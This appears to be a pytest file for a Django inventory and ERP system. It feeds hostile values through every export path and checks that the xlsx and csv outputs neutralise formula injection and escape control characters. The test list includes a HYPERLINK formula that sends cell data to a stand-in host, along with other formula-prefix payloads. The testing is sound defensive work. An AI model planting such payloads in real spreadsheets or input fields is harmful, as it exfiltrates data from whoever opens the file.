"""Hostile values in every text column of every export (issue #12 deliverable 3, defect 4).

Each hostile value becomes a small floor written the way the handhelds and the ERP write
it (services, the ERP's upsert API): a material, lot, serial, location, warehouse, workshop,
work order, user, device, document and reason all carrying it. Then every export kind goes
through its real entry points (API inline, export job, month-end API, page and command,
the auditors' xlsx and csv): the file opens, no cell is a formula, no text starts with a
formula prefix or holds a character XML forbids, numbers stay numbers, nothing answers 500
and no job fails. Each checked text column must have received both a neutralised formula
and an escaped control character, so the floor really reaches every column.
"""

import csv
import io
from collections import defaultdict
from decimal import Decimal
from types import SimpleNamespace
from urllib.parse import quote

import pytest
from django.core.management import call_command
from django.utils import timezone
from openpyxl import load_workbook
from rest_framework.test import APIClient

from finance.month_end import month_end_compute
from inventory.services import Movement, ledger_post
from materials.models import TrackingMode
from reports.tasks import export_run_task
from returns.models import ReasonCode, RequestKind
from tests.builders import batch_material, receive, released_work_order, with_roles
from tests.core.test_excel import assert_cell_text_safe
from tests.factories import (
    LocationFactory,
    MaterialFactory,
    SupplierFactory,
    UserFactory,
    WarehouseCategoryFactory,
    WarehouseFactory,
    WorkshopFactory,
)
from tests.reports.conftest import assert_finance_format, column
from workorders.services.issuing import IssueLine, work_order_issue

pytestmark = pytest.mark.django_db
URL = "/api/v1/exports/"
# Short enough for every column they go into (reason codes and workshop codes hold 32).
# U+0000 is left out: PostgreSQL cannot store it and Django's and DRF's fields refuse it on
# input; tests/core/test_excel.py writes it (and every other control) straight to the writer.
HOSTILE = [
    '=HYPERLINK("http://e.x/?"&B3)',
    "+1",
    "-1+2",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "FE\x0b01",
    "\x0b=1",
    "".join(map(chr, range(0x01, 0x10))),
    "".join(map(chr, range(0x10, 0x20))),
    "A\ufffe\uffff",
]
# The columns a handheld or the ERP can fill, per sheet; the others hold labels, numbers
# and dates that the product itself writes.
HOSTILE_COLUMNS = {
    "Ledger": (
        "Material", "Name", "Lot", "Serial number", "Location", "Document type", "Document",
        "Work order", "Reason", "User", "Device",
    ),
    "Work orders": ("Work order", "Product", "Workshop"),
    "Locations now": ("Location", "Warehouse"),
    "Lots consumed": ("Material", "Name", "Lot", "Supplier"),
    "Consumption variance": ("Work order", "Workshop", "Material", "Name"),
    "By workshop": ("Workshop",),
    "By reason": ("Reason",),
    "By class": ("Approval class",),
    "By responsible party": ("Responsible party",),
    "Flagged replenishments": ("Document", "Workshop", "Reason", "Responsible party"),
    "Summary": ("Material", "Name"),
    "Detail lines": (
        "Document", "Work order", "Workshop", "Material", "Name", "Lot", "Reason",
        "Responsible party",
    ),
    "Audit events": ("User", "Device", "Object"),
}  # fmt: skip
HOSTILE_COLUMNS["Movements"] = HOSTILE_COLUMNS["Ledger"]
MONTH_END_SHEETS = [
    "Summary", "By workshop", "By reason", "By class", "By responsible party",
    "Flagged replenishments", "Detail lines",
]  # fmt: skip


def floor_build(value, index):
    """One value everywhere a handheld or the ERP can put text, booked through services."""
    actor = UserFactory(username=value)
    warehouse = WarehouseFactory(code=value, name=value)
    shelf = LocationFactory(code=value, warehouse=warehouse)
    tube = batch_material(code=value, name=value, standard_cost=Decimal("2.5"))
    motor = MaterialFactory(
        code=f"{value}M", name=value, tracking=TrackingMode.SERIAL, standard_cost=Decimal("9")
    )
    supplier = SupplierFactory(code=f"S{index}", name=value)
    receive(tube, shelf, 50, actor, batch_no=value, supplier=supplier)
    receive(motor, shelf, 1, actor, batch_no=value, serials=[value])
    work_order = released_work_order(
        actor,
        components=[(tube, 2, 0), (motor, 1, 0)],
        planned_qty=10,
        number=value,
        workshop=WorkshopFactory(code=value, name=value),
    )
    work_order.product.__class__.objects.filter(pk=work_order.product_id).update(
        code=f"{value}P{index}"
    )
    lot, motor_lot = tube.lots.get(), motor.lots.get()
    lines = [
        IssueLine(tube, Decimal(20), shelf, lot=lot),
        IssueLine(motor, Decimal(1), shelf, lot=motor_lot, serials=(value,)),
    ]
    work_order_issue(work_order=work_order, actor=actor, lines=lines, device=value)
    for kind, sign in ((RequestKind.RETURN, 1), (RequestKind.REPLENISH, -1)):
        ReasonCode.objects.create(kind=kind, code=value, name=value, responsible_party=value[:12])
        ledger_post(
            movements=[Movement(tube, shelf, Decimal(3) * sign, kind, lot=lot)],
            doc_type=value,
            doc_id=f"{value}{kind}",
            actor=actor,
            device=value,
            work_order=work_order,
            reason_code=value,
        )
    tube.__class__.objects.filter(pk=tube.pk).update(approval_class=value[:1])
    return SimpleNamespace(value=value, tube=tube, motor=motor, work_order=work_order)


@pytest.fixture
def floors(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    settings.MONTH_END_SPOT_CHECK_AMOUNT = "0"  # every replenishment on the flagged sheet
    built = [floor_build(value, index) for index, value in enumerate(HOSTILE)]
    month_end = month_end_compute(month=timezone.localdate().replace(day=1))
    return SimpleNamespace(floors=built, month=f"{month_end.month:%Y-%m}", month_end=month_end)


class Seen:
    """The text of every checked column across all files of one kind of sheet."""

    def __init__(self):
        self.columns = defaultdict(list)

    def add(self, title, headers, rows):
        for name in HOSTILE_COLUMNS.get(title, ()):
            self.columns[title, name].extend(row[headers.index(name)] for row in rows)

    def assert_reached(self, titles):
        """Both kinds of hostile value arrived, neutralised, in each column of ``titles``."""
        for title in titles:
            for name in HOSTILE_COLUMNS[title]:
                texts = [str(v) for v in self.columns[title, name]]
                assert any(t.startswith("'") for t in texts), (title, name)
                assert any("\\x0b" in t for t in texts), (title, name)


def workbook_checked(content, seen):
    """Open the file; no formula, no unsafe text anywhere; record the checked columns."""
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        rows = list(sheet.iter_rows())
        for row in rows:
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert_cell_text_safe(cell.value)
        header = 1 if sheet.print_title_rows == "$1:$2" else 0  # under a title line
        headers = [cell.value for cell in rows[header]]
        seen.add(sheet.title, headers, [[c.value for c in row] for row in rows[header + 1 :]])
    return workbook


def inline(client, kind, params):
    response = client.post(f"{URL}?inline=1", {"kind": kind, "params": params}, format="json")
    assert response.status_code == 200, response.content[:500]
    return response.content


def by_job(client, capture, kind, params):
    with capture():
        response = client.post(URL, {"kind": kind, "params": params}, format="json")
    assert response.status_code == 201, response.json()
    export_run_task(response.json()["id"])
    job = client.get(f"{URL}{response.json()['id']}/").json()
    assert job["state"] == "done", job["error"]
    return b"".join(client.get(job["download_url"]).streaming_content)


def test_ledger_inline_and_job(api, floors, django_capture_on_commit_callbacks):
    seen = Seen()
    for content in (
        inline(api, "ledger", {}),
        by_job(api, django_capture_on_commit_callbacks, "ledger", {}),
    ):
        sheet = workbook_checked(content, seen)["Ledger"]
        assert_finance_format(sheet, ["Quantity"], ["Amount"])
        rows = list(sheet.iter_rows(min_row=2))[:-1]  # without the totals row
        quantities = [row[column(sheet, "Quantity") - 1] for row in rows]
        assert all(cell.data_type == "n" for cell in quantities)
        assert any(cell.value < 0 for cell in quantities)  # issues: negative numbers
        assert all(row[0].is_date for row in rows)
    seen.assert_reached(["Ledger"])


def test_recall_of_every_lot_serial_and_work_order(api, floors, django_capture_on_commit_callbacks):
    seen = Seen()
    for floor in floors.floors:
        value = floor.value
        subjects = [{"work_order": value}]
        if value == value.strip():  # the form strips what is typed; these can be typed
            subjects += [
                {"material": value, "lot": value},
                {"material": f"{value}M", "serial": value},
            ]
        for params in subjects:
            workbook_checked(inline(api, "recall", params), seen)
    job = by_job(api, django_capture_on_commit_callbacks, "recall", {"work_order": HOSTILE[0]})
    workbook_checked(job, seen)
    seen.assert_reached(["Movements", "Work orders", "Locations now", "Lots consumed"])


def test_variance_inline_and_job(api, floors, django_capture_on_commit_callbacks):
    seen = Seen()
    workbook_checked(inline(api, "variance", {}), seen)
    workbook_checked(by_job(api, django_capture_on_commit_callbacks, "variance", {}), seen)
    seen.assert_reached(["Consumption variance"])


def test_month_end_everywhere_it_is_built(
    api, admin, floors, tmp_path, django_capture_on_commit_callbacks
):
    seen = Seen()
    params = {"month": floors.month}
    path = tmp_path / "month.xlsx"
    call_command("month_end", "--month", floors.month, "--xlsx", str(path))
    client = APIClient()
    client.force_login(admin)
    page = client.get(f"/finance/month-end/{floors.month}/workbook/")
    assert page.status_code == 200
    for content in (
        inline(api, "month_end", params),
        by_job(api, django_capture_on_commit_callbacks, "month_end", params),
        api.get(f"/api/v1/month-ends/{floors.month_end.pk}/workbook/").content,
        page.content,
        path.read_bytes(),
    ):
        workbook_checked(content, seen)
    seen.assert_reached(MONTH_END_SHEETS)


def test_audit_trail_xlsx_and_csv(floors):
    """The auditors' exports, after the ERP upserted a warehouse whose name holds U+000B
    from a device id that is a formula (the audit rows cannot be edited afterwards)."""
    erp = APIClient(HTTP_X_DEVICE_ID=HOSTILE[0])
    erp.force_authenticate(UserFactory(username="erp", is_superuser=True))
    category = WarehouseCategoryFactory(code="RAW-ERP")
    for code in ("=1+2", "WH\x0bERP"):
        response = erp.put(
            f"/api/v1/warehouses/by-code/{quote(code, safe='')}/",
            {"name": "Main\x0bstore", "category": category.code},
            format="json",
        )
        assert response.status_code == 201, response.json()
    auditor = APIClient()
    auditor.force_authenticate(with_roles(UserFactory(username="auditor-1"), "auditor"))
    seen = Seen()
    workbook_checked(auditor.get("/api/v1/audit-events/export/?type=xlsx").content, seen)
    seen.assert_reached(["Audit events"])

    streamed = auditor.get("/api/v1/audit-events/export/?type=csv")
    assert streamed.status_code == 200
    text = b"".join(streamed.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for value in row:
            assert_cell_text_safe(value)
    from_csv = Seen()
    from_csv.add("Audit events", rows[0], rows[1:])
    from_csv.assert_reached(["Audit events"])
